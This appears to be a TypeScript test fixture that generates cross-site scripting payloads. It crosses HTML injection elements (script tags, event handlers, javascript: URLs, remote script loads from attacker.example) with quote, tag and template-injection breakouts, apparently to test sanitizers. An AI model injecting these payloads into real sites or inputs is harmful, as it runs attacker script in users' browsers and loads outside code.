/** What an injected script would do: mark the window, and call another origin. */
const code = `top.injected=1,fetch('https://attacker.example/')`;

const elements = [
  `<script>${code}</script>`,
  `<script src=https://attacker.example/a.js></script>`,
  `<img src=x onerror="${code}">`,
  `<img src=https://attacker.example/a.png>`,
  `<svg onload="${code}">`,
  `<svg><script>${code}</script></svg>`,
  `<svg><animate onbegin="${code}" attributeName=x dur=1s>`,
  `<iframe srcdoc="<script>${code}</script>"></iframe>`,
  `<iframe src="javascript:${code}"></iframe>`,
  `<body onload="${code}">`,
  `<details open ontoggle="${code}">`,
  `<input autofocus onfocus="${code}">`,
  `<video><source onerror="${code}"></video>`,
  `<audio src=x onerror="${code}">`,
  `<marquee onstart="${code}">`,
  `<object data="javascript:${code}"></object>`,
  `<embed src="https://attacker.example/a.swf">`,
  `<link rel=stylesheet href=https://attacker.example/a.css>`,
  `<meta http-equiv=refresh content="0;url=https://attacker.example/">`,
  `<style>@import 'https://attacker.example/a.css'</style>`,
  `<a href="javascript:${code}" autofocus onfocus="${code}">点我</a>`,
  `<form action="https://attacker.example/"><button autofocus onfocus="${code}">`,
];

/** Ways out of the place where a text is written. */
const contexts: readonly ((element: string) => string)[] = [
  (element) => element,
  (element) => `">${element}`,
  (element) => `'>${element}`,
  (element) => `</script>${element}`,
  (element) => `</textarea></title>${element}`,
  (element) => `--><!-- -->${element}`,
  (element) => element.replace(/<(\w+)/g, (_all, name: string) => `<${name.toUpperCase()}/`),
  (element) => element.replaceAll('<', '&lt;').replaceAll('&lt;', '&#60;'),
  (element) => element.replaceAll('<', '\\u003c'),
  (element) => `{{constructor.constructor("${code}")()}}${element}`,
];

/** Texts that would run as a script or load from elsewhere where a page wrote them as HTML. */
export const scriptPayloads: readonly string[] = contexts.flatMap((inContext) => elements.map(inContext));
